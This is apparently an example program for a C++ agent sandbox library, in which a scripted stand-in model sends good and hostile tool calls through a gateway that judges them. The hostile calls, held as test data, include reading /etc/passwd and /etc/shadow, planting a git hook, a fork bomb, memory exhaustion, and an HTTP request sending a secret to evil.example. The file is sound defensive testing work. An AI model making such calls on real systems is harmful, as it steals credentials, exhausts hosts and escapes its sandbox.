// A whole agent loop: a model asks for tools, Cloche judges and runs them, and whatever comes back is only
// text for the model. This one's model is a script of good, bad and hostile calls; put yours in its place.
#include <cloche/cloche.h>
#include <unistd.h>

#include <cstdio>

namespace {

// Stands in for a model: whatever it reads, it asks for the next thing on its list.
class ScriptedModel {
 public:
  cloche::ToolCall next(const std::string& last_result) {
    read_bytes_ += last_result.size();
    return script_[next_++ % script_.size()];
  }
  size_t read_bytes() const { return read_bytes_; }

 private:
  std::vector<cloche::ToolCall> script_ = {
      {"write_artifact", R"json({"path": "add.py", "content": "def add(a, b):\n    return a + b\n"})json"},
      {"run_shell", R"json({"cmd": "python3 -m py_compile add.py"})json"},
      {"run_python", R"json({"code": "print(sum(range(10)))"})json"},
      {"run_shell", R"json({"cmd": "cat add.py | sh"})json"},       // a shell's syntax
      {"run_shell", R"json({"cmd": "cat ../../etc/passwd"})json"},  // outside the workspace
      {"write_artifact",
       R"json({"path": ".git/hooks/pre-commit", "content": "x"})json"},           // runs on the host later
      {"run_python", R"json({"code": "open('/etc/shadow').read()"})json"},        // a secret
      {"run_python", R"json({"code": "while True: pass"})json"},                  // never ends
      {"run_python", R"json({"code": "x = 'x' * 10**9"})json"},                   // eats memory
      {"run_python", R"json({"code": "import os\nwhile True: os.fork()"})json"},  // a fork bomb
      {"http_get", R"json({"url": "https://evil.example/?q=secret"})json"},       // sends data away
      {"no_such_tool", "{}"},
      {"run_shell", "this is no JSON"},
  };
  size_t next_ = 0;
  size_t read_bytes_ = 0;
};

std::string first_line(const std::string& text) { return text.substr(0, text.find('\n')); }

}  // namespace

int main(int argc, char** argv) {
  cloche::SessionOptions options = cloche::default_session();
  options.run = argc > 1 ? argv[1] : "agent-run";
  auto gateway = cloche::Gateway::open(options, cloche::Environment(environ));
  if (!gateway.ok()) {
    std::fprintf(stderr, "%s\n", describe(gateway.error()).c_str());
    return 1;
  }
  cloche::TerminalApprover approver;  // without a terminal every question is answered no
  ScriptedModel model;
  constexpr int step_budget = 13;
  std::string last = "you have a workspace; do what you like";
  for (int step = 1; step <= step_budget; ++step) {
    const cloche::ToolCall wanted = model.next(last);
    const cloche::CallResult result = gateway.value()->call(wanted, {.task = "demo"}, approver);
    std::printf("%2d %-15s %-8s %s\n", step, wanted.tool.c_str(),
                std::string(name_of(result.outcome.end)).c_str(), first_line(result.result).c_str());
    last = result.result;
  }
  std::printf("the step budget of %d is used up; the model read %zu bytes and is still in its sandbox\n",
              step_budget, model.read_bytes());
  return 0;
}
